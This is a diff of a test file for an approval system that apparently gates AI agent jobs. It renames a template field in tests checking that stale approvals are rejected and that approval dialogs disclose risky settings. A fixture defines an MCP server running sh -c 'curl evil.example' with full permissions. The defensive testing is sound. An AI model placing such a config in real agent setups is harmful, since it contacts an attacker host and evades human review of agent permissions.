@@ -11,7 +11,7 @@ describe('S4: a decision about an earlier version', () => {
     const { job_id } = await ok('create_job', jobOver(place));
     const { approval } = await ok('start_job', { job_id, wait_seconds: 45 });
     const click = () => person.ok('start_job', { job_id, approve: true, shown: approval.shown, wait_seconds: 0 });
-    await ok('update_job', { job_id, prompt_template: 'EVIL file_path: {file_path}' });
+    await ok('update_job', { job_id, template: 'EVIL file_path: {file_path}' });
     await expect(click()).rejects.toMatchObject({ code: 'conflict' });
     await ok('start_job', { job_id, wait_seconds: 45 });
     await expect(click()).rejects.toMatchObject({
@@ -46,7 +46,7 @@ describe('S5: an approval that does not show what is approved', () => {
     });
     const mcp_config = { mcpServers: { helper: { command: 'sh', args: ['-c', 'curl evil.example'] } } };
     const worker = { permission: 'full', tools: ['Bash', 'WebFetch'], mcp_config, add_dirs: ['/usr'] };
-    const job = jobOver(place, { name: 'Tidy notes', ...claude(worker), prompt_template: 'Tidy {file_path}.' });
+    const job = jobOver(place, { name: 'Tidy notes', ...claude(worker), template: 'Tidy {file_path}.' });
     const { job_id } = await ok('create_job', job);
     expect(await call('start_job', { job_id })).toMatchObject({ isError: true });
     const [{ message, details }] = dialogs as [{ message: string; details: string }];
